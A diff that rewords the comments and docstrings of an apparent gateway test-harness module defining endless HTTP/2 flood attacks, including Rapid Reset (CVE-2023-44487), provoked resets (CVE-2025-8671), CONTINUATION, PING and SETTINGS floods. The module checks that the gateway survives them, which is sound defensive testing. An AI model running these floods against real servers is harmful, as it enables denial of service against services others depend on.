@@ -1,4 +1,4 @@
-"""HTTP/2 frames that cost the sender nothing and ask for nothing, without end."""
+"""Endless HTTP/2 frames that are cheap for the sender and request nothing."""
 import time
 from functools import partial
 
@@ -7,12 +7,12 @@ from harness.assault import until_first_ends
 from harness.bounds import closed_or_cheap, holder_is_served
 from harness.stage import Attack
 
-# How much is sent at a time.
+# The bytes of one write.
 BUFFER = 32 * 1024
 
 
 async def flood(assault, frames, reads=True):
-    """Sends what `frames` makes for each buffer, on one connection, which is opened anew when it is closed."""
+    """Sends the buffers of `frames` on one connection, and opens a new one when it is closed."""
     context = tls.context(protocols=("h2",))
 
     async def once():
@@ -27,14 +27,14 @@ async def flood(assault, frames, reads=True):
         make = frames(client)
         while True:
             await client.connection.send(next(make))
-            # The other task, which reads, must get its turn even if sending never waits.
+            # Sending may never wait, and the reading task must run too.
             await assault.pause(0)
 
     await assault.again_and_again(once)
 
 
 def repeated(frame):
-    """The same frame, repeated without end."""
+    """An endless repetition of one frame."""
 
     def frames(_client):
         buffer = frame * (BUFFER // len(frame))
@@ -52,12 +52,12 @@ def priorities(_client):
 
 
 def window_updates(_client):
-    """WINDOW_UPDATE frames for the connection, by the least that is permitted."""
+    """WINDOW_UPDATE frames for the connection, with the smallest increment."""
     yield from repeated(http2.window_update(0, 1))(_client)
 
 
 def settings_of_windows(client):
-    """SETTINGS frames that shrink and grow the windows of a hundred open streams."""
+    """SETTINGS frames that change the windows of a hundred open streams."""
     block = http2.request_block("POST", gateway.IGNORED)
     yield b"".join(http2.headers(client.new_stream(), block, end_stream=False) for _ in range(100))
     pair = http2.settings(window=1) + http2.settings(window=70000)
@@ -65,7 +65,7 @@ def settings_of_windows(client):
 
 
 def resets(client):
-    """Requests that are taken back at once (CVE-2023-44487)."""
+    """Requests that the client resets at once (CVE-2023-44487)."""
     block = http2.request_block("GET", gateway.IGNORED)
     while True:
         buffer = b""
@@ -77,7 +77,7 @@ def resets(client):
 
 
 def provoked_resets(client):
-    """Requests after which a window that overflows makes the gateway reset the stream (CVE-2025-8671)."""
+    """Requests followed by a window overflow, so that the gateway resets the stream (CVE-2025-8671)."""
     block = http2.request_block("GET", gateway.IGNORED)
     while True:
         buffer = b""
@@ -97,7 +97,7 @@ def continuations(client):
 
 
 def empty_continuations(client):
-    """The same in pieces without content."""
+    """A header block that never ends, in empty frames."""
     yield http2.frame(http2.HEADERS, 0, client.new_stream(), http2.request_block("GET", gateway.IGNORED))
     yield from repeated(http2.frame(http2.CONTINUATION, 0, 1))(client)
 
@@ -111,7 +111,7 @@ def empty_data(client):
 
 FLOODS = {
     "ping": ("PING frames", repeated(http2.frame(http2.PING, 0, 0, b"12345678"))),
-    "ping-acknowledgements": ("PING frames that answer none", repeated(http2.frame(http2.PING, http2.ACK, 0, b"12345678"))),
+    "ping-acknowledgements": ("unsolicited PING acknowledgements", repeated(http2.frame(http2.PING, http2.ACK, 0, b"12345678"))),
     "settings": ("SETTINGS frames", repeated(http2.settings())),
     "settings-windows": ("SETTINGS frames that change the window of 100 streams", settings_of_windows),
     "priority": ("PRIORITY frames", priorities),
@@ -125,12 +125,12 @@ FLOODS = {
 }
 
 ATTACKS = [
-    Attack(f"flood-{name}", f"{words} without end", partial(flood, frames=frames), (holder_is_served, closed_or_cheap(5, 5)))
+    Attack(f"flood-{name}", f"endless {words}", partial(flood, frames=frames), (holder_is_served, closed_or_cheap(5, 5)))
     for name, (words, frames) in FLOODS.items()
 ]
 ATTACKS += [
     Attack(
-        f"flood-{name}-unread", f"{words} without end, and nothing is read",
+        f"flood-{name}-unread", f"endless {words}, and the client reads nothing",
         partial(flood, frames=frames, reads=False), (holder_is_served, closed_or_cheap(5, 5)),
     )
     for name, (words, frames) in FLOODS.items() if name in ("ping", "settings")
